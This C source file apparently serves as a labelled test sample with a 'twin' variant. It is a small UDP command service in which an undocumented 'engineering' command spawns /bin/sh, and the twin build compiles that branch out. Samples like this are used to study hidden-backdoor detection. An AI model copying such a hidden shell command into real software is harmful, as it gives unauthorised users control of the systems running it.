/* A command that the help does not name runs a shell. Twin: it is named, and sends a reply. */
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
  char request[256];
  int peer = socket(AF_INET, SOCK_DGRAM, 0);
  while (recv(peer, request, sizeof request, 0) > 0) {
    if (strcmp(request, "help") == 0) {
      send(peer, "help status reset\n", 18, 0);
    } else if (strcmp(request, "status") == 0) {
      send(peer, "up\n", 3, 0);
    } else if (strcmp(request, "reset") == 0) {
      send(peer, "done\n", 5, 0);
#ifndef TWIN
    } else if (strcmp(request, "engineering") == 0) {
      execl("/bin/sh", "sh", (char *)0);
#endif
    }
  }
  return 0;
}
